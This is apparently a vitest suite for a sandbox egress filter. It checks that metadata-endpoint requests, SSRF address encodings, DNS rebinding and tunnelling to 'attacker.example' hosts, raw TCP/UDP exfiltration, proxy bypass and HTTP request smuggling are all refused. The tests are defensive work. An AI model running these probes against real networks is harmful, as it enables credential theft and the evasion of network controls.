import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { TimelineEvent } from '../../app/contract/index.ts';
import { HOSTS, openArena, type Arena } from './arena.ts';

let arena: Arena;

beforeAll(async () => {
  arena = await openArena();
});
afterAll(async () => {
  await arena.close();
});

/** How often anything of the host that must stay unreached was reached. */
const reached = (): number =>
  arena.loopbackSink.reached() + arena.bridgeSink.reached() + arena.udpSink.reached();

const lastSeq = async (): Promise<number> => (await arena.events()).at(-1)?.seq ?? 0;

const curl = (args: string): string => `curl -sS -m 8 -k ${args}`;

describe('the way out, for allowed hosts', () => {
  it('is open, so that the rest means something', async () => {
    const { stdout } = await arena.inside.run(curl(`https://${HOSTS.allowed}/hello`));
    expect(stdout).toContain('"url":"/hello"');
  });
});

describe('private, local and metadata addresses', () => {
  it.each<[string, string]>([
    ['cloud metadata by address', 'http://169.254.169.254/latest/meta-data/'],
    ['cloud metadata by name', 'http://metadata.google.internal/computeMetadata/v1/'],
    ['cloud metadata over TLS', 'https://169.254.169.254/'],
    ['ECS metadata', 'http://169.254.170.2/v2/credentials'],
    ['IPv6 metadata', 'http://[fd00:ec2::254]/latest/meta-data/'],
    ['a private address', 'http://10.0.0.1/'],
    ['a private address in hex', 'http://0x0a000001/'],
    ['a private address as one number', 'http://167772161/'],
    ['a private address in octal', 'http://012.0.0.1/'],
    ['a private address in short form', 'http://10.1/'],
    ['192.168', 'https://192.168.1.1/'],
    ['172.16', 'https://172.16.0.1/'],
    ['carrier-grade NAT', 'http://100.64.0.1/'],
    ['IPv4 mapped in IPv6', 'http://[::ffff:10.0.0.1]/'],
    ['NAT64', 'http://[64:ff9b::0a00:0001]/'],
    ['6to4', 'http://[2002:0a00:0001::1]/'],
    ['unique local IPv6', 'https://[fd12:3456:789a::1]/'],
    ['link-local IPv6', '"http://[fe80::1%25lo]/"'],
    ['a name that leads to a private address', `https://${HOSTS.private}/`],
    [
      'a name that leads to the host’s loopback the second time',
      `https://${HOSTS.rebind}/ https://${HOSTS.rebind}/ https://${HOSTS.rebind}/`,
    ],
    ['a public address that no rule names', 'https://1.1.1.1/'],
    ['a public IPv6 address that no rule names', 'https://[2606:4700:4700::1111]/'],
    [
      'DNS over HTTPS',
      '"https://1.1.1.1/dns-query?dns=AAABAAABAAAAAAAAA3d3dwdleGFtcGxlA2NvbQAAAQAB"',
    ],
    ['a host that no rule names', `https://${HOSTS.denied}/collect`],
  ])('%s is refused and recorded', async (_name, urls) => {
    const since = await lastSeq();
    const before = reached();
    const { stdout } = await arena.inside.run(curl(`-w '%{http_code} ' ${urls}`), 60_000);
    expect(stdout).not.toMatch(/\b200 /);
    expect(reached()).toBe(before);
    expect(arena.denied.connections()).toBe(0);
    const refusals = await arena.refusals(since);
    expect(refusals.length).toBeGreaterThan(0);
    expect(refusals.every((event) => event.code !== undefined)).toBe(true);
  });

  it('the host’s own addresses and loopback are not reached', async () => {
    const script = [
      `127.0.0.1:${String(arena.loopbackSink.port)}`,
      `localhost:${String(arena.loopbackSink.port)}`,
      `0.0.0.0:${String(arena.loopbackSink.port)}`,
      `[::1]:${String(arena.loopbackSink.port)}`,
      `${arena.bridgeAddress}:${String(arena.bridgeSink.port)}`,
      `172.17.0.1:${String(arena.bridgeSink.port)}`,
      `host.docker.internal:${String(arena.bridgeSink.port)}`,
      `gateway.docker.internal:${String(arena.bridgeSink.port)}`,
    ]
      .map((target) => curl(`http://${target}/ https://${target}/`))
      .join('; ');
    const { stdout } = await arena.inside.run(script, 120_000);
    expect(stdout).not.toContain('reached the host');
    expect(reached()).toBe(0);
  });

  it('a redirect of an allowed server to metadata is judged anew', async () => {
    const since = await lastSeq();
    const { stdout } = await arena.inside.run(
      curl(`-L -w '%{http_code}' https://${HOSTS.allowed}/redirect`),
    );
    expect(stdout).not.toMatch(/200$/);
    const refusals = await arena.refusals(since, ({ host }) => host === '169.254.169.254');
    expect(refusals.map(({ host }) => host)).toContain('169.254.169.254');
  });
});

describe('names', () => {
  it('no question ever reaches an outside resolver by itself', async () => {
    const before = arena.resolver.questions.length;
    await arena.inside.run(
      `python3 - <<'P'
import socket, struct
def ask(server, name, qtype, tcp=False):
    q = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0' + struct.pack('>HH', qtype, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM if tcp else socket.SOCK_DGRAM); s.settimeout(3)
    try:
        s.connect((server, 53)); s.send((struct.pack('>H', len(q)) + q) if tcp else q); print(name, s.recv(512))
    except OSError as e: print(name, e)
for server in ('8.8.8.8', '127.0.0.1', '${arena.bridgeAddress}'):
    for tcp in (False, True):
        for qtype in (1, 16, 28, 255):
            ask(server, 'c2VjcmV0LWRhdGE.tunnel.attacker.example', qtype, tcp)
P
getent hosts exfil.attacker.example; curl -sS -m 5 https://exfil.attacker.example/`,
      120_000,
    );
    expect(arena.resolver.questions.slice(before)).toEqual([]);
  });

  it.each([
    ['a datagram', 'SOCK_DGRAM', 'q', 'datagram.asked.example'],
    ['a connection', 'SOCK_STREAM', "struct.pack('>H', len(q)) + q", 'connection.asked.example'],
  ])('a question in %s is recorded with the program that asked it', async (_, type, say, name) => {
    const since = await lastSeq();
    await arena.inside.run(
      `python3 - <<'P'
import socket, struct
q = struct.pack('>HHHHHH', 9, 0x100, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l.encode() for l in '${name}'.split('.')) + b'\\0' + struct.pack('>HH', 1, 1)
s = socket.socket(socket.AF_INET, socket.${type}); s.settimeout(4); s.connect(('192.0.2.53', 53)); s.send(${say}); s.recv(512)
import time; time.sleep(1)
P`,
    );
    const asked = async (): Promise<readonly TimelineEvent[]> =>
      (await arena.events()).filter(
        (event) => event.seq > since && event.kind === 'dns' && event.name === name,
      );
    await expect.poll(asked, { timeout: 5000 }).toHaveLength(1);
    expect(await asked()).toMatchObject([{ program: { command: ['python3', '-'] } }]);
  });

  it('text records, which tunnels use, get no answer', async () => {
    const { stdout } = await arena.inside.run(
      `python3 - <<'P'
import socket, struct
q = struct.pack('>HHHHHH', 9, 0x100, 1, 0, 0, 0) + b'\\5plain\\7allowed\\7example\\0' + struct.pack('>HH', 16, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(4); s.sendto(q, ('9.9.9.9', 53)); r = s.recv(512)
print('answers', struct.unpack('>H', r[6:8])[0])
P`,
    );
    expect(stdout).toContain('answers 0');
  });
});

describe('other protocols', () => {
  it('UDP goes nowhere and is recorded', async () => {
    const since = await lastSeq();
    await arena.inside.run(
      `python3 - <<'P'
import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for target in (('8.8.8.8', 9999), ('${arena.bridgeAddress}', ${String(arena.udpSink.port)}), ('1.1.1.1', 443)):
    for _ in range(3):
        try: s.sendto(b'exfil', target)
        except OSError as e: print(e)
        time.sleep(0.1)
time.sleep(1)
P`,
    );
    expect(arena.udpSink.reached()).toBe(0);
    const wanted = '8.8.8.8:9999';
    const target = (event: { host: string; port: number }): string =>
      `${event.host}:${String(event.port)}`;
    const refusals = (
      await arena.refusals(since, (event) => event.scheme === 'udp' && target(event) === wanted)
    ).filter((event) => event.scheme === 'udp');
    expect(refusals.map(target)).toContain(wanted);
    expect(refusals.every((event) => event.code === 'egress.udp')).toBe(true);
  });

  it('ICMP goes nowhere', async () => {
    const { stdout } = await arena.inside.run(
      `python3 - <<'P'
import socket, struct
for address in ('${arena.bridgeAddress}', '8.8.8.8'):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(2)
        s.sendto(struct.pack('>BBHHH', 8, 0, 0, 1, 1) + b'echo', (address, 0)); s.recv(100); print('answered')
    except OSError as e: print('refused', e)
P`,
    );
    expect(stdout.match(/refused/g)).toHaveLength(2);
    expect(stdout).not.toContain('answered');
  });

  it.each<[string, string]>([
    ['SSH', `('${HOSTS.allowed}', 22)`],
    ['a port that no rule names', `('${HOSTS.allowed}', 8443)`],
    ['a bare address', "('93.184.216.34', 4444)"],
  ])('raw TCP to %s is refused', async (_name, target) => {
    const since = await lastSeq();
    const { stdout } = await arena.inside.run(
      `python3 - <<'P'
import socket
s = socket.socket(); s.settimeout(15)
try:
    s.connect(${target}); s.send(b'\\x00\\x01exfil data\\r\\n'); print('got', s.recv(100))
except OSError as e: print('refused', e)
P`,
    );
    expect(stdout).not.toMatch(/got b'.+'/);
    expect((await arena.refusals(since)).length).toBeGreaterThan(0);
  });

  it('the gateway’s own ports answer nobody', async () => {
    const since = await lastSeq();
    const { stdout } = await arena.inside.run(
      `python3 - <<'P'
import socket
ports = set()
for name in ('tcp', 'tcp6'):
    for line in open('/proc/net/' + name).read().splitlines()[1:]:
        f = line.split()
        if f[3] == '0A': ports.add(int(f[1].split(':')[1], 16))
print('ports', sorted(ports))
for port in ports:
    for data in (b'GET / HTTP/1.1\\r\\nHost: ${HOSTS.allowed}\\r\\n\\r\\n', b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n', b'CONNECT ${HOSTS.denied}:443 HTTP/1.1\\r\\n\\r\\n'):
        s = socket.socket(); s.settimeout(4)
        try:
            s.connect(('127.0.0.1', port)); s.send(data); print('got', s.recv(200))
        except OSError as e: print('refused', e)
P`,
      60_000,
    );
    expect(stdout).toMatch(/ports \[\d/);
    expect(stdout).not.toMatch(/got b'.+'/);
    const isLoop = ({ code }: { code?: string | undefined }): boolean => code === 'egress.loop';
    expect((await arena.refusals(since, isLoop)).some(isLoop)).toBe(true);
  });

  it.each<[string, string]>([
    ['CONNECT to a host without a rule', `-k -x $GLOVEBOX_PROXY https://${HOSTS.denied}/`],
    ['a plain request to a host without a rule', `-x $GLOVEBOX_PROXY http://${HOSTS.denied}/`],
    ['SOCKS5 to the metadata address', '--socks5 proxy.glovebox.internal http://169.254.169.254/'],
    [
      'SOCKS5 to an allowed name that leads to a private address',
      `-k --socks5-hostname proxy.glovebox.internal https://${HOSTS.private}/`,
    ],
    ['CONNECT to this machine', `--proxytunnel -x $GLOVEBOX_PROXY http://BRIDGE:LOOPBACK/`],
    ['the proxy by way of itself', '-p -x $GLOVEBOX_PROXY http://proxy.glovebox.internal:8080/'],
  ])('the proxy inside is no way round: %s', async (_name, words) => {
    const since = await lastSeq();
    const target = words
      .replace('BRIDGE', arena.bridgeAddress)
      .replace('LOOPBACK', String(arena.bridgeSink.port));
    const { stdout } = await arena.inside.run(
      `curl -sS --max-time 15 -o /tmp/answer -w '%{http_code}' ${target}; cat /tmp/answer`,
    );
    expect(stdout).not.toMatch(/^[23]/);
    expect((await arena.refusals(since)).length).toBeGreaterThan(0);
    expect(arena.bridgeSink.reached() + arena.loopbackSink.reached()).toBe(0);
    expect(arena.denied.connections()).toBe(0);
  });

  it('a program that ignores proxy variables is caught all the same', async () => {
    const { stdout } = await arena.inside.run(
      `env -i HTTPS_PROXY=http://127.0.0.1:1 NO_PROXY='*' python3 - <<'P'
import socket, ssl
c = ssl._create_unverified_context()
s = c.wrap_socket(socket.create_connection(('${HOSTS.denied}', 443), 8), server_hostname='${HOSTS.denied}')
s.send(b'GET /x HTTP/1.1\\r\\nHost: ${HOSTS.denied}\\r\\nConnection: close\\r\\n\\r\\n'); print(s.recv(4000))
P`,
    );
    expect(stdout).toContain('egress.no-rule');
    expect(arena.denied.connections()).toBe(0);
  });
});

describe('names that disagree', () => {
  it.each<[string, string, RegExp]>([
    [
      'Host header',
      curl(`-o /dev/null -w '%{http_code}' -H 'Host: ${HOSTS.denied}' https://${HOSTS.allowed}/`),
      /^421$/,
    ],
    [
      'TLS name',
      curl(
        `-w '%{http_code}' --connect-to ${HOSTS.denied}:443:${HOSTS.allowed}:443 https://${HOSTS.denied}/`,
      ),
      /(403|421)$/,
    ],
    [
      'absolute-form target',
      `printf 'GET https://${HOSTS.denied}/ HTTP/1.1\\r\\nHost: ${HOSTS.allowed}\\r\\nConnection: close\\r\\n\\r\\n' | timeout 8 openssl s_client -quiet -connect ${HOSTS.allowed}:443 -servername ${HOSTS.allowed} 2>/dev/null`,
      /HTTP\/1\.1 4\d\d/,
    ],
    [
      'two Host headers',
      `printf 'GET / HTTP/1.1\\r\\nHost: ${HOSTS.allowed}\\r\\nHost: ${HOSTS.denied}\\r\\nConnection: close\\r\\n\\r\\n' | timeout 8 openssl s_client -quiet -connect ${HOSTS.allowed}:443 -servername ${HOSTS.allowed} 2>/dev/null`,
      /HTTP\/1\.1 4\d\d/,
    ],
    [
      'CONNECT inside',
      `printf 'CONNECT ${HOSTS.denied}:443 HTTP/1.1\\r\\nHost: ${HOSTS.denied}:443\\r\\n\\r\\n' | timeout 8 openssl s_client -quiet -connect ${HOSTS.allowed}:443 -servername ${HOSTS.allowed} 2>/dev/null; echo "HTTP/1.1 400 or closed"`,
      /HTTP\/1\.1 4\d\d/,
    ],
    ['TRACE', curl(`-X TRACE -o /dev/null -w '%{http_code}' https://${HOSTS.allowed}/`), /^40\d$/],
    [
      'a path with an encoded way up',
      curl(`--path-as-is -o /dev/null -w '%{http_code}' https://${HOSTS.allowed}/a/%2e%2e/secret`),
      /^40\d$/,
    ],
  ])('%s: refused', async (_name, script, expected) => {
    const before = arena.allowed.requests.length;
    const { stdout } = await arena.inside.run(script);
    expect(stdout.trim()).toMatch(expected);
    expect(arena.allowed.requests.length).toBe(before);
    expect(arena.denied.connections()).toBe(0);
  });

  it('a smuggled second request is never seen upstream', async () => {
    const before = arena.allowed.requests.length;
    const body = '0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n';
    await arena.inside.run(
      `printf 'POST / HTTP/1.1\\r\\nHost: ${HOSTS.allowed}\\r\\nContent-Length: 44\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n${body}' | timeout 8 openssl s_client -quiet -connect ${HOSTS.allowed}:443 -servername ${HOSTS.allowed} 2>/dev/null`,
    );
    expect(arena.allowed.requests.slice(before)).toEqual([]);
  });
});
